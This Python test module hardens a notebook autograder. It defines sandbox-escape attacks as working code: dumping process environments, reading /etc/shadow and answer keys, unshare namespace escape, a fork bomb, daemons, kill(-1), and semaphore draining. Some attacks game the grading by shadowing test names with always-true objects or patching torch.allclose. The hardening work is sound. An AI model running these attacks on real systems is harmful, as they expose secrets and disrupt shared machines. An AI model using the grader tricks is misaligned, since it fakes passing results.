"""Attacks on the isolation of the student's process (soft_select), by category, each with the
points it must earn. Every attacker sits on WRONG answers unless its attack, had it worked,
would give it the right ones: then 0 points proves it did not work. Honest controls (names
starting with zz_, so they are graded after the attackers, by the same pool processes) must keep
full marks.

Categories (the grader hardening issue): 2 the student's process sees nothing of the grader,
3 nothing of the student's outlives their turn, 4 tests trust only what the instructor wrote,
5 one student never stops a batch.
"""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path

from .attacks import FULL, WRONG, Attack

ANSWERS = sorted(WRONG)  # the names soft_select's solution cells define

# If any read below finds the reference code, the attacker defines the right answers from it:
# a full score would prove the leak.
STEAL = '''
def _use(text):
    import json as _json
    if text.lstrip().startswith("{"):  # a notebook: its code cells
        try:
            text = "\\n".join(c["source"] if isinstance(c["source"], str) else "".join(c["source"])
                              for c in _json.loads(text)["cells"] if c["cell_type"] == "code")
        except Exception:
            return
    if "def soft_select" not in text and "def hard_select" not in text:
        return
    import ast as _ast, math as _math, torch as _torch
    found = {"torch": _torch, "math": _math, "F": _torch.nn.functional}
    try:
        tree = _ast.parse(text)
    except SyntaxError:
        return
    for node in tree.body:  # statement by statement: a failing import costs nothing else
        try:
            exec(compile(_ast.Module([node], []), "<stolen>", "exec"), found)
        except Exception:
            pass
    for name in ("hard_select", "softmax", "soft_select", "attention_pooling"):
        if callable(found.get(name)):
            globals()[name] = found[name]
            print("STOLEN", name)
'''


@dataclass
class Plant:
    """What the test plants outside the course before grading, for attackers to go after."""

    secret: str  # a value put in the grader's environment (a database password, a hub token)
    secret_file: Path  # a file outside the course the student must not read
    reference_copy: Path  # the reference code, readable by the grader, outside the course
    udp_port: int  # a UDP listener on the grader's loopback
    tcp_port: int  # a TCP listener on the grader's loopback
    unix_socket: Path  # a Unix socket listener
    abstract_socket: str  # an abstract Unix socket name (no file)
    pwned: Path  # a file an attacker tries to create outside its sandbox


def isolation_attacks(repo: Path, course: Path, p: Plant) -> list[Attack]:
    repo, course = str(repo), str(course)
    return [
        # ----- 2. the student's process sees nothing of the grader --------------------------
        Attack("c2_environment", "prints its environment and every process's environ and "
               "cmdline (the grader's database password, a hub token)", code='''
import os
print(dict(os.environ))
for pid in os.listdir("/proc"):
    for name in ("environ", "cmdline"):
        try:
            print(pid, name, open(f"/proc/{pid}/{name}", "rb").read()[:4000])
        except OSError as e:
            print("blocked:", e)''', flags={"suspicious"}),
        Attack("c2_read_files", "reads the reference, the source notebook, the gradebook, "
               "/etc/shadow and a planted file, by path and through /proc/*/root and cwd",
               code=STEAL + f'''
import glob, os
paths = [{repo!r} + "/solutions/select.py", {str(p.reference_copy)!r}, {str(p.secret_file)!r},
         {repo!r} + "/assignments/soft_select/soft_select.ipynb", {course!r} + "/gradebook.db",
         "/etc/shadow", "/root/.bash_history"]
for pid in os.listdir("/proc"):
    paths += [f"/proc/{{pid}}/root" + {repo!r} + "/solutions/select.py",
              f"/proc/{{pid}}/cwd/solutions/select.py", f"/proc/{{pid}}/root/etc/shadow"]
for path in paths:
    try:
        text = open(path, errors="ignore").read()
        print("read", path, text[:200])
        _use(text)
    except OSError as e:
        print("blocked:", path, e)''', flags={"suspicious"}),
        Attack("c2_answer_key", "imports the demo's answer key and the reference from the "
               "installed packages (grader.demo, solutions)", code=STEAL + '''
import importlib, inspect
for name in ("solutions.select", "grader.demo.sample_class", "solutions"):
    try:
        module = importlib.import_module(name)
        print("imported", name)
        _use(inspect.getsource(module))
    except Exception as e:
        print("blocked:", name, type(e).__name__)''', flags={"suspicious"}),
        Attack("c2_user_namespace", "becomes root in a user namespace of its own (`unshare "
               "-r`), unmounts what hides the reference and reads it", code=STEAL + f'''
import subprocess
script = ("id -u; umount -l {repo}/solutions {repo}/grader/demo 2>&1; "
          "cat {repo}/solutions/select.py")
run = subprocess.run(["unshare", "--user", "--map-root-user", "--mount", "sh", "-c", script],
                     capture_output=True, text=True)
print("USERNS", "made" if run.stdout.startswith("0") else "refused", run.stderr[-300:])
_use(run.stdout)''', flags={"suspicious"}),
        Attack("c2_network", "sends UDP, connects over TCP, to a Unix socket, an abstract "
               "socket and PostgreSQL's socket", code=f'''
import socket
for family, kind, address in [
        (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", {p.udp_port})),
        (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", {p.tcp_port})),
        (socket.AF_UNIX, socket.SOCK_STREAM, {str(p.unix_socket)!r}),
        (socket.AF_UNIX, socket.SOCK_STREAM, "\\0" + {p.abstract_socket!r}),
        (socket.AF_UNIX, socket.SOCK_STREAM, "/var/run/postgresql/.s.PGSQL.5432")]:
    s = socket.socket(family, kind)
    s.settimeout(2)
    try:
        if kind == socket.SOCK_DGRAM:
            s.sendto(b"LEAK", address)
        else:
            s.connect(address)
            s.sendall(b"LEAK")
        print("sent to", address)
    except OSError as e:
        print("blocked:", address, e)''', flags={"suspicious"}),
        # ----- 3. nothing of the student's outlives the student's turn -----------------------
        Attack("c3_daemon", "a double-forked, setsid daemon with a cleared environment that "
               "keeps writing files", code=f'''
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.environ.clear()
        while True:
            for path in ("/tmp/daemon-alive", {str(p.pwned)!r}):
                try:
                    open(path, "w").write(str(time.time()))
                except OSError:
                    pass
            time.sleep(0.2)
    os._exit(0)
time.sleep(0.5)''', flags={"suspicious"}),
        Attack("c3_fork_bomb", "forks without end (children fork too)", code='''
import os, time
born = 0
for _ in range(100000):
    try:
        if os.fork() == 0:
            time.sleep(600)
            os._exit(0)
        born += 1
    except OSError:
        break
print("children:", born)''', flags={"suspicious"}),
        Attack("c3_fill_storage", "fills /dev/shm, /tmp and its folder, leaves files for the "
               "next student", code='''
import os
for path, size in (("/dev/shm/left-behind", 200 * 2**20), ("/tmp/left-behind", 200 * 2**20),
                   ("left-behind.bin", 600 * 2**20)):
    try:
        with open(path, "wb") as f:
            for _ in range(size // 2**20):
                f.write(b"x" * 2**20)
    except OSError as e:
        print("stopped:", path, e)''', flags={"suspicious"}),
        # ----- 4. tests trust only what the instructor wrote ----------------------------------
        Attack("c4_shadow_test_names", "defines the names tests use that are not answers "
               "(checks, torch, math, common test variables) as objects that agree with "
               "everything", code='''
class Yes:
    def __eq__(self, other): return True
    def __bool__(self): return True
    def __getattr__(self, name): return self
    def __call__(self, *a, **k): return self
    def __iter__(self): return iter([self, self])
    def __getitem__(self, key): return self
yes = Yes()
expect_close = expect_shape = expect_rows_sum_to_one = lambda *a, **k: None
torch = math = yes
for name in ("reference", "expected", "ref", "check", "compare_outputs", "expect_tensor",
             "CheckFailure", "x", "q", "k", "v", "keys", "values", "query", "out", "weights"):
    globals()[name] = yes''', flags={"redefined"}),
        Attack("c4_log_requests", "wraps its own process's request handler to log what the "
               "grader asks for, and prints the log last (hidden-test identifiers?)",
               code='''
import gc, json
_log = []
for _obj in gc.get_objects():
    if type(_obj).__name__ == "Worker" and hasattr(_obj, "op_get"):
        for _op in ("op_get", "op_get_many", "op_getattr", "op_call"):
            _orig = getattr(_obj, _op)
            def _wrapped(msg, _orig=_orig, _op=_op):
                for _name in msg.get("names") or [msg.get("name")]:
                    _log.append([_op, _name])
                return _orig(msg)
            setattr(_obj, _op, _wrapped)''', tamper=lambda nb: nb.cells.append(
            _code_cell('print("REQUESTS", json.dumps(_log))')), flags={"suspicious"}),
        Attack("c4_patch_test_side", "replaces torch functions and builtins in its own "
               "process, hoping the tests' references are computed there", code='''
import builtins, torch
torch.allclose = lambda *a, **k: True
torch.softmax = lambda x, dim=-1, **k: torch.zeros_like(x)
builtins.isinstance = lambda *a: True
builtins.abs = lambda x: 0''', flags={"suspicious"}),
        # ----- 5. one student never stops a batch --------------------------------------------
        Attack("c5_semaphores", "looks for the process pool's semaphores in /dev/shm and "
               "/proc/*/maps, drains and deletes them", code='''
import glob, os, re
names = set(os.path.basename(p) for p in glob.glob("/dev/shm/*"))
for maps in glob.glob("/proc/*/maps"):
    try:
        names |= set(re.findall(r"/dev/shm/(\\S+)", open(maps).read()))
    except OSError:
        pass
print("found:", sorted(names))
try:
    import _multiprocessing
    for name in names:
        if name.startswith("sem."):
            try:
                lock = _multiprocessing.SemLock._rebuild(0, 1, 1, "/" + name[4:])
                while lock.acquire(False):
                    pass
            except Exception as e:
                print("blocked:", e)
except ImportError:
    pass
for path in glob.glob("/dev/shm/*"):
    try:
        os.unlink(path)
    except OSError as e:
        print("blocked:", e)''', flags={"suspicious"}),
        Attack("c5_kill_everything", "signals every process it can: kill(-1), its parent, its "
               "process group, pid 1", code='''
import os, signal
for target in (os.getppid(), 1, 2):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError as e:
        print("blocked:", target, e)
try:
    os.kill(-1, signal.SIGSTOP)
except OSError as e:
    print("blocked: -1", e)''', flags={"suspicious"}),
        Attack("c5_hang_blocked_signals", "blocks every signal and waits forever in C",
               code='''
import signal, threading
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, signal.NSIG))
threading.Event().wait()''', flags={"timeout"}),
        # ----- 6. what ships: nothing of the answers inside the student's reach -------------
        Attack("c6_installed_files", "lists the installed course package's files (its RECORD) "
               "and reads every one under solutions/ or grader/demo/", code=STEAL + '''
import importlib.metadata, os, sys
try:
    dist = importlib.metadata.distribution("attention-course")
    for f in dist.files or []:
        if "solutions" in str(f) or "demo" in str(f):
            try:
                _use(open(dist.locate_file(f), errors="ignore").read())
            except OSError as e:
                print("blocked:", f, e)
except Exception as e:
    print("blocked:", type(e).__name__, e)''', flags={"suspicious"}),
        Attack("c6_search_packages", "searches every folder on sys.path for the reference and "
               "the source notebooks", code=STEAL + '''
import glob, os, sys
for root in {os.path.dirname(p) for p in sys.path if p} | set(p for p in sys.path if p):
    for pattern in ("**/select.py", "**/sample_class.py", "**/soft_select*.ipynb"):
        for path in glob.glob(os.path.join(root, pattern), recursive=True)[:50]:
            try:
                _use(open(path, errors="ignore").read())
            except OSError as e:
                print("blocked:", path, e)''', flags={"suspicious"}),
        # ----- honest controls, graded after the attackers -----------------------------------
        Attack("zz_control", "the source solution", answers="correct", points=FULL),
        Attack("zz_control_clean_slate", "the source solution, and it lists what it can see "
               "of earlier students", answers="correct", points=FULL, code='''
import os
print("SEEN", sorted(os.listdir("/dev/shm")), sorted(os.listdir("/tmp")),
      sorted(os.listdir(".")))'''),
        Attack("zz_control_threads", "the source solution, using a thread and a child "
               "process of its own", answers="correct", points=FULL, code='''
import subprocess, threading
threading.Thread(target=lambda: None).start()
print(subprocess.run(["echo", "child ok"], capture_output=True, text=True).stdout)'''),
    ]


def _code_cell(source: str):
    from nbformat.v4 import new_code_cell

    return new_code_cell(source)
